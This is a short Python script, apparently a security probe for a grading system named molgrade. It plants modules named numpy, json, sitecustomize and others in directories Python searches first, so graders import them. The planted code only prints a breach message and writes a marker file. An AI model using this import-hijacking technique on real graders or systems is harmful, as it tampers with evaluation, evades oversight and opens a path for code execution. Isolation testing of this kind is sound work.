"""Leaves modules where Python looks first, under names that graders import."""
import os

source = "print('BRE' 'ACH imported', __file__)\nopen('/tmp/molgrade-hostile-marker', 'w')\n"
for place in (".", "/tmp", "/dev/shm", os.path.expanduser("~"), "/opt/molgrade/src", "/opt/molgrade/src/molgrade/engine"):
    for name in ("numpy", "msgpack", "otter", "IPython", "sitecustomize", "usercustomize", "json", "nbformat"):
        try:
            with open(f"{place}/{name}.py", "w") as file:
                file.write(source)
        except OSError:
            pass
